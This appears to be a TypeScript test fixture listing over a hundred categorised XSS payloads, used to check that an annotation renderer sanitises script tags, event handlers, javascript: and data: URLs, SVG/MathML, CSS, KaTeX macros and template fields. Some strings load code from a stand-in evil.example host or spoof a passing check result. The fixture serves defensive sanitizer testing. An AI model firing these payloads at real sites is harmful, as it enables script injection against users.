// Hostile strings for every text field of every annotation kind: the renderer's output must stay inert with each.
// Exported for the jsdom test here and the real-browser test of the overlay.

export interface XssPayload {
  category: string;
  payload: string;
}

const script = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<script/xss src=https://evil.example/x.js></script>',
  '<<script>alert(1);//<</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

const handlers = [
  '<img src=x onerror=alert(1)>',
  '<img src="https://x.example/a.png" onload="alert(1)">',
  '<svg onload=alert(1)>',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex action=javascript:alert(1) type=image>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<img src=x oNeRrOr=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror\n=alert(1)>',
];

const urls = [
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click]( javascript:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](file:///etc/passwd)',
  '[click](//evil.example/path)',
  '[click](/relative/path)',
  '[click](#fragment)',
  '[click](mailto:a@b.example)',
  '<javascript:alert(1)>',
  '<https://ok.example/?q="><script>alert(1)</script>>',
  '[ref][x]\n\n[x]: javascript:alert(1)',
  '[click](javascript&#58;alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](&#x6A;&#x61;vascript:alert(1))',
  '[click](jav&#x09;ascript:alert(1))',
  '[click](javascript%3Aalert(1))',
  'https://ok.example/linkified?"onmouseover="alert(1)',
  'www.evil.example/"><script>alert(1)</script>',
];

const images = [
  '![x](javascript:alert(1))',
  '![x](http://insecure.example/a.png)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x"onerror="alert(1)](https://ok.example/a.png)',
  '![x](https://ok.example/a.png"onerror="alert(1))',
  '![x](https://ok.example/a.png "title\\" onerror=\\"alert(1)")',
  '![x](<javascript:alert(1)>)',
  '[![x](https://ok.example/a.png)](javascript:alert(1))',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
];

const entities = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3C;img src=x onerror=alert(1)&#x3E;',
  '\\<script>alert(1)\\</script>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '    <script>alert(1)</script>',
  '<!--<script>alert(1)//-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
];

const svgMath = [
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
];

const css = [
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
  '<style>body{display:none}</style>',
  '<span style="behavior:url(x.htc)">x</span>',
  '<div class="lit-check-result" data-lit-check-status="pass">fake pass</div>',
  '<div id="__proto__" name="cookie">clobber</div>',
  '<img src=https://ok.example/a.png name=getElementById>',
  '$\\color{red; background:url(javascript:alert(1))}{x}$',
  '$\\style{color:red}{x}$',
  '$\\rule{1000em}{1000em}$',
];

const tex = [
  '$\\href{javascript:alert(1)}{click}$',
  '$\\url{javascript:alert(1)}$',
  '$\\htmlData{onclick=alert(1)}{x}$',
  '$\\htmlClass{lit-check-result}{x}$',
  '$\\htmlId{x}{y}$',
  '$\\htmlStyle{background:url(javascript:alert(1))}{x}$',
  '$\\includegraphics{https://evil.example/track.png}$',
  '$$\\def\\a{\\a\\a}\\a$$',
  '$$\\def\\x{xxxxxxxx}\\def\\y{\\x\\x\\x\\x\\x\\x}\\def\\z{\\y\\y\\y\\y\\y\\y}\\z\\z\\z\\z\\z\\z$$',
  '$\\text{<script>alert(1)</script>}$',
  '$\\mathrm{</math><img src=x onerror=alert(1)>}$',
  '$$\\begin{matrix}<img src=x onerror=alert(1)>\\end{matrix}$$',
  '$\\frac{1$',
  '$\\unknowncommand{x}$',
  '$\\newcommand{\\e}{\\href{javascript:alert(1)}{x}}\\e$',
];

const live = [
  '{{"><script>alert(1)</script>}}',
  '{{m.conv1.mean | "><img src=x onerror=alert(1)>}}',
  '{{m.[<img src=x onerror=alert(1)>].mean}}',
  '{{m.[" onmouseover="alert(1)].mean}}',
  "{{m.['><script>alert(1)</script>].mean}}",
  '{{m.conv1.mean}}"><script>alert(1)</script>',
  '{{{{m.params}}}}',
  '{{m.params}} <img src=x onerror=alert(1)> {{m.params}}',
  '\\{{<script>alert(1)</script>}}',
  '{{constructor.prototype.mean}}',
];

const markdown = [
  '[a](https://ok.example "title\\"onmouseover=alert(1)")',
  '[a](<https://ok.example/"onmouseover="alert(1)>)',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '> <script>alert(1)</script>',
  '* [x](javascript:alert(1))\n* <iframe>',
  '# <img src=x onerror=alert(1)>',
  '<details><summary>x</summary><script>alert(1)</script></details>',
  '**<a href=javascript:alert(1)>bold</a>**',
  '[a]: javascript:alert(1)\n[b][a]',
  '<a href="https://ok.example" target="_self">same tab</a>',
  '<a href="https://ok.example" rel="opener">opener</a>',
  '\u202e<script>alert(1)</script>',
];

function tag(category: string, payloads: string[]): XssPayload[] {
  return payloads.map((payload) => ({ category, payload }));
}

export const XSS_CORPUS: readonly XssPayload[] = [
  ...tag('script', script),
  ...tag('event-handler', handlers),
  ...tag('url', urls),
  ...tag('image', images),
  ...tag('entity', entities),
  ...tag('svg-mathml', svgMath),
  ...tag('css', css),
  ...tag('katex', tex),
  ...tag('live-value', live),
  ...tag('markdown', markdown),
];
